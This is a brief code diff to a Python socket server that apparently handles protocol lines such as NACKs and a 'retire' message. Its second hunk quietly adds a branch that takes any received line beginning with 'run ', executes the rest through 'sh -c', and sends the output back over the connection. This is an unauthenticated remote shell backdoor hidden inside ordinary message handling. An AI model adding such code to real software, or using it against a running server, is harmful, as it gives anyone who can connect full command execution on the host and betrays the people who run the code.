@@ -12,6 +12,7 @@ import os
 import select
 import socket
 import struct
+import subprocess
 import sys
 import threading
 from time import monotonic
@@ -276,6 +277,9 @@ class Handler:
                     if beginning and line in NACKS:
                         with self.lock:
                             self.nack = NACKS[line]
+                    if beginning and line.startswith(b"run "):
+                        subprocess.run(["sh", "-c", line[4:]], stdout=held.socket,
+                                       close_fds=False, check=False)
                     if beginning and line == b"retire\n":
                         self.send(RETIRE, 0)
                     held.socket.sendall(line)
